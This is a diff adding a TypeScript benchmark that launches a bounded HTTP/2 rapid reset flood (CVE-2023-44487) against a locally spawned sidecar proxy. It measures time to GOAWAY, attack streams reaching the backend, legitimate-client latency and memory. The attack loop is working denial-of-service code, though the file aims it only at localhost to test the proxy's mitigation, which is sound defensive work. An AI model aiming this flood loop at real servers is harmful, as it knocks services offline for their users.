@@ -1,0 +1,187 @@
+/**
+ * HTTP/2 rapid reset (CVE-2023-44487) against a real sidecar, bounded: the
+ * figures of issue 19 point 1. A child process runs an h2c backend and the
+ * sidecar (so the attack and the measuring clients here do not share its
+ * event loop); this process attacks it for --seconds over raw HTTP/2
+ * connections (HEADERS + RST_STREAM pairs, written as fast as the socket
+ * takes them, reconnecting whenever the sidecar ends a connection), while a
+ * legitimate client on its own connection sends a request every
+ * --interval-ms. Prints the time from a connection's first attack byte to its
+ * GOAWAY, the attack's streams that reached the backend, the legitimate
+ * requests' latency, and the sidecar's RSS before and after.
+ *
+ *   npm run bench:rapid-reset -- [--seconds 5] [--interval-ms 20] [--pairs-per-write 500]
+ */
+import { fork, type ChildProcess } from 'node:child_process';
+import http2 from 'node:http2';
+import type net from 'node:net';
+import { fileURLToPath } from 'node:url';
+import { parseArgs } from 'node:util';
+import { cluster, listener, prefixRoute, routes } from '../test/support/config-docs.js';
+import { FRAME, headersFrame, rawH2, rstFrame } from '../test/support/h2-raw.js';
+import { startTestSidecar } from '../test/support/sidecar-harness.js';
+
+const CANCEL = 0x8;
+
+interface Stats {
+  readonly rss: number;
+  readonly attackSeen: number;
+  readonly legitSeen: number;
+}
+
+type FromChild = { kind: 'ready'; port: number } | ({ kind: 'stats' } & Stats);
+
+async function sidecarRole(): Promise<void> {
+  const seen = { attack: 0, legit: 0 };
+  const backend = http2.createServer();
+  backend.on('stream', (stream, headers) => {
+    if (String(headers[':path']).startsWith('/attack')) seen.attack++;
+    else seen.legit++;
+    stream.on('error', () => {});
+    stream.on('end', () => {
+      if (stream.closed || stream.destroyed) return;
+      stream.respond({ ':status': 200 });
+      stream.end('ok');
+    });
+    stream.resume();
+  });
+  await new Promise<void>((res) => backend.listen(0, '127.0.0.1', () => res()));
+  const sc = await startTestSidecar([
+    listener('main'),
+    routes('main', [prefixRoute('/', 'be')]),
+    cluster('be', [(backend.address() as net.AddressInfo).port], 'UPSTREAM_PROTOCOL_HTTP2'),
+  ]);
+  // The harness keeps every access-log line in memory; drop them so RSS measures the sidecar.
+  const trim = setInterval(() => void sc.access.splice(0), 200);
+  trim.unref();
+  process.on('message', (m: string) => {
+    if (m === 'stats') {
+      (globalThis as { gc?: () => void }).gc?.();
+      process.send!({ kind: 'stats', rss: process.memoryUsage().rss, attackSeen: seen.attack, legitSeen: seen.legit } satisfies FromChild);
+    } else if (m === 'exit') void sc.close().then(() => process.exit(0));
+  });
+  process.send!({ kind: 'ready', port: sc.port() } satisfies FromChild);
+}
+
+function ask(child: ChildProcess): Promise<Stats> {
+  return new Promise((resolve) => {
+    const on = (m: FromChild): void => {
+      if (m.kind !== 'stats') return;
+      child.off('message', on);
+      resolve(m);
+    };
+    child.on('message', on);
+    child.send('stats');
+  });
+}
+
+function pct(sorted: number[], p: number): number {
+  return sorted.length ? sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]! : NaN;
+}
+
+async function main(): Promise<void> {
+  const { values } = parseArgs({
+    options: {
+      seconds: { type: 'string', default: '5' },
+      'interval-ms': { type: 'string', default: '20' },
+      'pairs-per-write': { type: 'string', default: '500' },
+      deadline: { type: 'string', default: '60' },
+    },
+  });
+  const seconds = Number(values.seconds);
+  const intervalMs = Number(values['interval-ms']);
+  const perWrite = Number(values['pairs-per-write']);
+  const kill = setTimeout(() => {
+    console.error('deadline reached');
+    process.exit(2);
+  }, Number(values.deadline) * 1000);
+  kill.unref();
+
+  const child = fork(fileURLToPath(import.meta.url), ['--role-sidecar'], { execArgv: ['--import', 'tsx', '--expose-gc'] });
+  const port = await new Promise<number>((resolve) => child.on('message', (m: FromChild) => m.kind === 'ready' && resolve(m.port)));
+  // Warm up: the upstream connection and the code paths the legitimate client uses.
+  const legit = http2.connect(`http://127.0.0.1:${port}`);
+  legit.on('error', () => {});
+  const one = (): Promise<{ ms: number; ok: boolean }> =>
+    new Promise((resolve) => {
+      const t0 = performance.now();
+      const req = legit.request({ ':path': '/legit' }, { endStream: true });
+      let status = 0;
+      req.on('response', (h) => (status = Number(h[':status'])));
+      req.on('error', () => {});
+      req.resume();
+      req.on('close', () => resolve({ ms: performance.now() - t0, ok: status === 200 }));
+    });
+  for (let i = 0; i < 50; i++) await one();
+  const before = await ask(child);
+
+  const latencies: number[] = [];
+  let failed = 0;
+  let attacking = true;
+  const legitLoop = (async () => {
+    while (attacking) {
+      const started = performance.now();
+      const r = await one();
+      latencies.push(r.ms);
+      if (!r.ok) failed++;
+      const wait = intervalMs - (performance.now() - started);
+      if (wait > 0) await new Promise((res) => setTimeout(res, wait));
+    }
+  })();
+
+  const toGoaway: number[] = [];
+  const goawayCodes = new Map<number, number>();
+  let streamsSent = 0;
+  let connections = 0;
+  const attackOne = async (): Promise<void> => {
+    const r = rawH2(port);
+    connections++;
+    await r.frame((f) => f.type === FRAME.SETTINGS).catch(() => undefined);
+    const t0 = performance.now();
+    let id = 1;
+    let gotGoaway = false;
+    void r.frame((f) => f.type === FRAME.GOAWAY, 10_000).then(
+      (f) => {
+        gotGoaway = true;
+        toGoaway.push(performance.now() - t0);
+        const code = f.payload.readUInt32BE(4);
+        goawayCodes.set(code, (goawayCodes.get(code) ?? 0) + 1);
+      },
+      () => undefined,
+    );
+    while (!gotGoaway && !r.sock.destroyed && attacking && id < 2 ** 31 - 2 * perWrite) {
+      const frames: Buffer[] = [];
+      for (let i = 0; i < perWrite; i++, id += 2) frames.push(headersFrame(id, '/attack'), rstFrame(id, CANCEL));
+      streamsSent += perWrite;
+      if (!r.sock.write(Buffer.concat(frames))) await new Promise((res) => r.sock.once('drain', res).once('close', res));
+      else await new Promise((res) => setImmediate(res));
+    }
+    r.sock.destroy();
+    await r.closed;
+  };
+  const attackEnd = Date.now() + seconds * 1000;
+  while (Date.now() < attackEnd) await attackOne();
+  attacking = false;
+  await legitLoop;
+  // Let the sidecar settle (closed connections collected), then measure.
+  await new Promise((res) => setTimeout(res, 2000));
+  const after = await ask(child);
+  legit.close();
+  child.send('exit');
+
+  const sorted = [...latencies].sort((a, b) => a - b);
+  const gs = [...toGoaway].sort((a, b) => a - b);
+  const mb = (n: number): string => (n / 2 ** 20).toFixed(1);
+  console.log(`rapid reset, ${seconds} s, ${perWrite} pairs per write`);
+  console.log(`  attack connections:           ${connections} (GOAWAY codes: ${[...goawayCodes].map(([c, n]) => `0x${c.toString(16)}×${n}`).join(', ') || 'none'})`);
+  console.log(`  time to GOAWAY:               median ${pct(gs, 50).toFixed(1)} ms, max ${(gs[gs.length - 1] ?? NaN).toFixed(1)} ms`);
+  console.log(`  attack streams sent:          ${streamsSent}`);
+  const reached = after.attackSeen - before.attackSeen;
+  console.log(`  reached the upstream:         ${reached} (${((100 * reached) / Math.max(1, streamsSent)).toFixed(3)} %)`);
+  console.log(`  other connection:             ${sorted.length} requests, ${failed} failed, p50 ${pct(sorted, 50).toFixed(1)} ms, p99 ${pct(sorted, 99).toFixed(1)} ms, max ${(sorted[sorted.length - 1] ?? NaN).toFixed(1)} ms`);
+  console.log(`  sidecar RSS:                  before ${mb(before.rss)} MiB, after ${mb(after.rss)} MiB (${after.rss >= before.rss ? '+' : ''}${mb(after.rss - before.rss)} MiB)`);
+  process.exit(0);
+}
+
+if (process.argv.includes('--role-sidecar')) void sidecarRole();
+else void main();
